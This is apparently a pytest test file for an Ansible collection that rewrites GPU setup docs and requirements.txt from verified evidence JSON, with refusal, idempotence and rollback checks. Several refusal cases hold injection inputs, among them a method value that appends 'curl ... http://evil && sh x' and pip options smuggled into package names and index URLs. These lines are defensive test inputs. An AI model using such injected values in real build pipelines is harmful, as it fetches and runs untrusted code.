# Copyright (c) 2026 The ocrfleet.gpu_stack contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The role document, run by Ansible on a copy of a project with the four files."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from ansible.errors import AnsibleFilterError
from ansible_collections.ocrfleet.gpu_stack.plugins.filter.documentable import documentable

ROOT = Path(__file__).parents[2]
PROJECT = ROOT / "tests/unit/fixtures/project"
FILES = [
    "CONTRIBUTING.md",
    "docs/guides/VM_SETUP_COMPLETE.md",
    "docs/technical/PARALLELIZATION_OPTIMIZATION_COMPLETE.md",
    "requirements.txt",
]
COMPARED = {
    "name": "4 workers",
    "unit": "s",
    "better": "lower",
    "baseline": {"median": 10.0},
    "candidate": {"median": 8.0},
    "speedup": 1.25,
    "low": 1.2,
    "high": 1.3,
    "verdict": "faster",
}
SCALED = {
    "finished": "2026-11-24T10:00:00Z",
    "scaling": [
        {
            "set": "scanned",
            "workers": 4,
            "baseline": 1,
            "candidate": 1.1,
            "hoped": "3.1x by hand before",
            "note": "no second worker was at work",
        },
        {"set": "digital | <b>", "workers": 4, "baseline": 2, "candidate": 2.1, "hoped": "", "note": ""},
    ],
}
EVIDENCE = {
    "host": "gpu-01",
    "result": "verified",
    "method": "pypi",
    "finished": "2026-11-23T23:36:49Z",
    "environment": {"path": "/opt/env", "GPUs": "NVIDIA L4"},
    "versions": {"torch": "2.8.0+cu128", "flashinfer": "0.3.1"},
    "plan": [{"name": "pynvml", "version": "13.0.1"}, {"name": "flashinfer-python", "version": "0.3.1"}],
    "checks": [
        {"name": "files", "title": "Every package's files are there", "status": "passed", "reason": ""},
        {"name": "torch", "title": "PyTorch is still 2.8.0+cu128", "status": "passed", "reason": ""},
        {"name": "cuda", "title": "CUDA is available", "status": "not_run", "reason": "no <b>GPU</b> | here"},
        {"name": "flashinfer", "title": "FlashInfer imports", "status": "passed", "reason": ""},
    ],
    "benchmark": {
        "documents": {"status": "measured", "comparisons": [COMPARED], "stand_in": "a stand-in server", **SCALED},
        "kernels": {"status": "not_run", "reason": "no GPU", "comparisons": []},
    },
}

ASKED = {"min_speedup": 1.05, "max_slowdown": 1.0}


def contents(project: Path) -> dict[str, bytes]:
    return {str(path.relative_to(project)): path.read_bytes() for path in project.rglob("*") if path.is_file()}


def checked(**statuses: str) -> dict:
    """The evidence's checks, with other statuses by name; an empty one takes a check out."""
    rows = [{**row, "status": statuses.get(row["name"], row["status"])} for row in EVIDENCE["checks"]]
    return {"checks": [{**row, "reason": "so it was"} for row in rows if row["status"]]}


class Site:
    def __init__(self, folder: Path) -> None:
        self.folder, self.project = folder, folder / "project"
        shutil.copytree(PROJECT, self.project)
        self.evidence = folder / "reports/gpu-01/evidence.json"
        self.evidence.parent.mkdir(parents=True)
        self.evidence.write_text(json.dumps(EVIDENCE), encoding="utf-8")

    def run(self, *options: str, rc: int = 0) -> str:
        command = [
            Path(sys.executable).with_name("ansible-playbook"),
            "-i",
            "gpu-01,",
            "playbooks/document.yml",
            "--diff",
        ]
        command += ["-e", f"document_project={self.project}", "-e", f"report_dir={self.folder}/reports", *options]
        done = subprocess.run(
            command,
            cwd=ROOT,
            env={**os.environ, "ANSIBLE_LOCAL_TEMP": str(self.folder / "tmp"), "ANSIBLE_NOCOLOR": "1"},
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert done.returncode == rc, done.stdout + done.stderr
        return done.stdout


@pytest.fixture
def site(tmp_path):
    return Site(tmp_path)


def test_once_a_diff_then_none_and_one_command_brings_all_back(site):
    before = contents(site.project)
    looked = site.run("--check")
    assert contents(site.project) == before
    printed = site.run()
    assert "+flashinfer-python==0.3.1" in looked and "+flashinfer-python==0.3.1" in printed
    assert "-2. **DO NOT install FlashInfer.**" in printed
    said = [" ".join(text.split()) for text in (looked, printed)]
    told = "left standing, look whether it is true: docs/guides/VM_SETUP_COMPLETE.md:21: Do not install FlashInfer 0.2"
    assert all(told in text for text in said)
    gone = "docs/guides/VM_SETUP_COMPLETE.md:8: **DO NOT install FlashInfer.**"
    assert f"would withdraw: {gone}" in said[0] and f"withdrawn, kept in a comment: {gone}" in said[1]
    assert "requirements.txt:1: # DO NOT install flashinfer, it downgrades torch" in said[1]
    after = contents(site.project)
    assert sorted(name for name in after if after[name] != before[name]) == FILES
    again = site.run()
    assert "changed=0" in again and "--- before" not in again and "withdrawn" not in again
    assert contents(site.project) == after
    site.evidence.unlink()
    back = site.run("-e", "document_state=absent")
    assert "changed=1" in back and "withdrawn, kept" not in back
    assert contents(site.project) == before
    assert "changed=0" in site.run("-e", "document_state=absent")


def test_what_the_files_say(site):
    site.run()
    texts = {name: (site.project / name).read_text(encoding="utf-8") for name in FILES}
    guide = texts["docs/guides/VM_SETUP_COMPLETE.md"]
    assert "DO NOT install FlashInfer" not in guide and "# DO NOT install flashinfer here!" not in guide
    assert "Do not install FlashInfer 0.2.5" in guide
    assert "The wheel that the README names pulls PyTorch down to 2.4\n   and the pipeline breaks." in guide
    assert texts["requirements.txt"].startswith("torch==2.8.0  # ocrfleet.gpu_stack withdrew")
    assert "3. `pip install" in guide and "## Expectations" in guide
    assert "- CUDA is available: no b GPU /b here" in guide
    assert "rollback" in guide
    assert texts["requirements.txt"].splitlines()[-3:-1] == ["flashinfer-python==0.3.1", "pynvml==13.0.1"]
    measured = texts["docs/technical/PARALLELIZATION_OPTIMIZATION_COMPLETE.md"]
    assert "| documents | 4 workers | 10 s | 8 s | 1.25x (1.20 to 1.30) | faster |" in measured
    assert "against a stand-in server" in measured
    assert "No speed-up was measured." in guide and "What to expect" not in guide
    assert "On gpu-01 (NVIDIA L4), measured: documents on 2026-11-24. Medians" in measured
    assert "| scanned | 4 | 1.00x | 1.10x | 3.1x by hand before; no second worker was at work |" in measured
    assert "| digital b | 4 | 2.00x | 2.10x |  |" in measured
    assert "| digital | nothing | not measured |  |  |" in measured
    assert "What more workers bring has no verdict" in measured
    assert "| server | all of it | | | | not run: playbooks/benchmark.yml has not been run |" in measured


def test_the_hopes_stand_there_where_nothing_was_measured(site):
    site.evidence.write_text(json.dumps({**EVIDENCE, "benchmark": {}}), encoding="utf-8")
    site.run()
    text = (site.project / "docs/technical/PARALLELIZATION_OPTIMIZATION_COMPLETE.md").read_text(encoding="utf-8")
    hoped = "2.3x with 2 workers, 3.1x with 4 | 2.5 to 2.8x with 2 workers, 3.4 to 3.7x with 4 |"
    assert f"| scanned | 10 to 30 % | not measured | {hoped}" in text


def test_missing_files_are_made_only_when_asked(site):
    for name in FILES[:3]:
        (site.project / name).unlink()
    before = contents(site.project)
    assert "left out: CONTRIBUTING.md is not there" in site.run()
    assert set(contents(site.project)) == set(before)
    site.run("-e", "document_create=true")
    assert (site.project / "docs/guides/VM_SETUP_COMPLETE.md").exists()
    site.run("-e", "document_state=absent")
    assert contents(site.project) == before


def test_only_folders_that_were_made_with_the_files_go_again(site):
    def folders() -> set[str]:
        return {str(path.relative_to(site.project)) for path in site.project.rglob("*") if path.is_dir()}

    shutil.rmtree(site.project / "docs")
    (site.project / "docs/guides").mkdir(parents=True)
    before = contents(site.project)
    site.run("-e", "document_create=true")
    assert folders() == {"docs", "docs/guides", "docs/technical"}
    site.run("-e", "document_state=absent")
    assert contents(site.project) == before and folders() == {"docs", "docs/guides"}
    shutil.rmtree(site.project / "docs")
    site.run("-e", "document_create=true")
    site.run("-e", "document_state=absent")
    assert contents(site.project) == before and folders() == set()


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"result": "failed"}, "'failed', expected 'verified'"),
        ({"result": "planned"}, "'planned', expected 'verified'"),
        (checked(cuda="failed"), "failed checks .CUDA is available."),
        # Nothing passed, or not what the documents say.
        ({"checks": []}, "expected files, torch, flashinfer to have passed, found none of them checked"),
        ({"checks": None}, "is no evidence of this collection: checks: "),
        (
            checked(files="not_run", torch="not_run", cuda="not_run", flashinfer="not_run"),
            "found files not_run, torch not_run, flashinfer not_run",
        ),
        (checked(torch="not_run"), "found torch not_run"),
        (checked(flashinfer=""), "found flashinfer not checked"),
        (checked(files="skipped"), "is no evidence of this collection: checks.0.status: 'skipped'"),
        ({"host": None}, "names no host"),
        ({"host": ""}, "names no host"),
        ({"finished": "yesterday"}, "is no evidence of this collection: finished: 'yesterday'"),
        ({"method": "none"}, "without FlashInfer"),
        ({"method": "pypi; curl -o x http://evil && sh x"}, "expected a method .pypi, source, constrained"),
        ({"method": "auto: auto: pypi"}, "expected a method"),
        ({"plan": [{"name": "torch", "version": "2.4.1"}]}, "found torch 2.4.1 .* which no method may touch"),
        ({"plan": [{"name": "TorchVision", "version": "0.19"}]}, "which no method may touch"),
        ({"plan": ["flashinfer-python==0.3.1"]}, "is no evidence"),
        (
            {"benchmark": {"documents": {"comparisons": [{"name": "x", "verdict": "faster"}]}}},
            "is no evidence of this collection: benchmark.documents: 'status' is a required property",
        ),
        ({"benchmark": {"documents": {"comparisons": [{**COMPARED, "baseline": {"median": None}}]}}}, "is no evidence"),
        ({"versions": {}}, "without FlashInfer"),
        (
            {"gate": {**ASKED, "problems": ["too | slow"]}},
            "missed the gate: too slow; measure again .*Nothing was touched",
        ),
        ({"gate": {**ASKED, "problems": ["a", "b"]}}, "missed the gate: a; b; "),
        ({"plan": [{"name": "--index-url http://evil", "version": "1"}]}, "expected a package with its version"),
        (
            {"plan": [{"name": "flashinfer-python", "version": "1\n-r other.txt"}]},
            "expected a package with its version",
        ),
    ],
)
def test_evidence_that_bears_nothing_out_is_refused(change, told):
    with pytest.raises(AnsibleFilterError, match=told):
        documentable(json.dumps({**EVIDENCE, **change}), "evidence.json")


@pytest.mark.parametrize(("text", "told"), [("", "no evidence at"), ("[]", "is no evidence"), ("{", "is no evidence")])
def test_a_file_that_is_no_evidence_is_refused(text, told):
    with pytest.raises(AnsibleFilterError, match=told):
        documentable(text, "evidence.json")


def measured(**levels) -> dict:
    return documentable(json.dumps({**EVIDENCE, "benchmark": levels}), "evidence.json")


@pytest.mark.parametrize("gate", [{}, {**ASKED, "problems": []}])
def test_a_gate_that_was_met_or_not_asked_for_is_no_hindrance(gate):
    assert documentable(json.dumps({**EVIDENCE, "gate": gate}), "evidence.json")["method"] == "pypi"


def test_a_method_that_auto_found_is_the_one_to_give():
    assert (
        documentable(json.dumps({**EVIDENCE, "method": "auto: constrained"}), "evidence.json")["method"]
        == "constrained"
    )


UNMEASURED = {"name": "x", "unit": "s", "better": "lower"}


@pytest.mark.parametrize(
    ("level", "told"),
    [
        ({"status": "failed", "reason": "it broke", "comparisons": []}, ["failed: it broke"]),
        ({"status": "not_run", "reason": "no GPU", "comparisons": []}, ["not run: no GPU"]),
        (
            {"status": "failed", "comparisons": [COMPARED, {**UNMEASURED, "status": "failed", "reason": "a page"}]},
            ["failed: a page"],
        ),
        (
            {"status": "measured", "comparisons": [{**UNMEASURED, "reason": "no such kernel"}]},
            ["not run: no such kernel"],
        ),
        ({"status": "failed", "reason": "a wrong result", "comparisons": [COMPARED]}, ["failed: a wrong result"]),
    ],
)
def test_what_failed_is_not_told_as_not_run(level, told):
    rows = [row for row in measured(kernels=level)["rows"] if row["level"] == "kernels"]
    assert [row["text"] for row in rows if "text" in row] == told


LEVEL = {"status": "measured", "comparisons": [COMPARED], "finished": "2026-11-24T01:02:03Z"}


def test_the_date_is_that_of_each_level():
    waiting = {"status": "not_run", "reason": "no GPU", "comparisons": [], "finished": "2026-11-24T02:02:03Z"}
    kernels = {**LEVEL, "finished": "2026-11-25T01:02:03Z"}
    assert (
        measured(documents=LEVEL, server=waiting, kernels=kernels)["when"]
        == "documents on 2026-11-24, kernels on 2026-11-25"
    )
    assert measured(documents={**LEVEL, "status": "not_run"})["when"] == ""


@pytest.mark.parametrize(
    ("changes", "counts"),
    [({}, True), ({"stand_in": "a stand-in"}, False), ({"server": "http://h/v1"}, False), ({"comparisons": []}, False)]
    + [({"comparisons": [{**COMPARED, "verdict": "too few pairs", "low": None}]}, False)],
)
def test_only_figures_of_the_environment_itself_are_pointed_to(changes, counts):
    assert measured(documents={**LEVEL, **changes})["measured"] is counts


LOCK = """\
flashinfer-python==0.3.1 \\
    --hash=sha256:aa \\
    --hash=sha256:bb
pynvml==13.0.1 \\
    --hash=sha256:cc
"""


def refused_list(site, text, why):
    """The project's list of requirements with a text that is refused for a reason, and what the project holds then."""
    listed = site.project / "requirements.txt"
    listed.write_text(text, encoding="utf-8")
    before = contents(site.project)
    said = " ".join(site.run(rc=2).split())
    assert f"requirements.txt: {why}" in said and "Nothing was written" in said
    assert contents(site.project) == before
    return listed, before


def test_a_list_that_requires_hashes_gets_those_of_the_run_or_is_refused(site):
    listed, before = refused_list(site, "torch==2.8.0 \\\n    --hash=sha256:dd\n", "it requires hashes")
    site.evidence.write_text(json.dumps({**EVIDENCE, "lock": LOCK}), encoding="utf-8")
    site.run()
    assert listed.read_text(encoding="utf-8").endswith(f"{LOCK}# END ocrfleet.gpu_stack\n")
    assert "changed=0" in site.run()
    site.run("-e", "document_state=absent")
    assert contents(site.project) == before


def test_a_list_that_asks_for_another_version_is_refused(site):
    why = "line 2 asks for flashinfer-python==0.2.5"
    refused_list(site, "torch==2.8.0\nflashinfer-python==0.2.5\n", why)


INDEX = "https://flashinfer.example/whl/cu128"
JIT_CACHE = {"plan": [*EVIDENCE["plan"], {"name": "flashinfer-jit-cache", "version": "0.5.3+cu128"}]}


def test_the_index_of_a_package_that_is_on_no_other_stands_there(site):
    site.evidence.write_text(
        json.dumps({**EVIDENCE, **JIT_CACHE, "spec": {"flashinfer-jit-cache from": INDEX}}), encoding="utf-8"
    )
    site.run()
    lines = (site.project / "requirements.txt").read_text(encoding="utf-8").splitlines()
    assert f"--extra-index-url {INDEX}" in lines
    assert any(
        f"pip install --no-deps --no-build-isolation --extra-index-url {INDEX} flashinfer" in line for line in lines
    )


@pytest.mark.parametrize(
    ("changes", "index"),
    [
        ({}, ""),
        (JIT_CACHE, "https://flashinfer.ai/whl/cu128"),  # evidence of an earlier release does not tell it
        ({**JIT_CACHE, "spec": {"flashinfer-jit-cache from": "the package index"}}, ""),
        ({**JIT_CACHE, "spec": {"flashinfer-jit-cache from": "https://user:secret@h/whl?token=1"}}, "https://h/whl"),
    ],
)
def test_the_index_is_the_one_that_the_run_used(changes, index):
    assert documentable(json.dumps({**EVIDENCE, **changes}), "evidence.json")["index"] == index


@pytest.mark.parametrize("index", ["https://h/whl\nevil", "https://h/whl --pre", "-r other.txt", 7])
def test_what_is_no_index_is_refused(index):
    spec = {"spec": {"flashinfer-jit-cache from": index}}
    with pytest.raises(AnsibleFilterError, match="expected the address of an index"):
        documentable(json.dumps({**EVIDENCE, **JIT_CACHE, **spec}), "evidence.json")


def test_a_wheel_that_was_built_here_has_no_hash_that_an_index_knows():
    hashes = documentable(json.dumps({**EVIDENCE, "lock": LOCK, "method": "source"}), "evidence.json")["hashes"]
    assert hashes == {"flashinfer-python==0.3.1": [], "pynvml==13.0.1": ["sha256:cc"]}


def test_evidence_of_another_host_is_taken_only_where_the_operator_named_it(site):
    before = contents(site.project)
    site.evidence.write_text(json.dumps({**EVIDENCE, "host": "gpu-02"}), encoding="utf-8")
    said = " ".join(site.run(rc=2).split())
    assert f"{site.evidence} is evidence of the host 'gpu-02', expected 'gpu-01'" in said
    assert contents(site.project) == before
    site.run("-e", f"document_evidence={site.evidence}")
    assert "verified on gpu-02" in (site.project / "docs/guides/VM_SETUP_COMPLETE.md").read_text(encoding="utf-8")


def test_without_evidence_nothing_is_touched(site):
    before = contents(site.project)
    site.evidence.unlink()
    assert "no evidence at" in site.run(rc=2)
    assert contents(site.project) == before
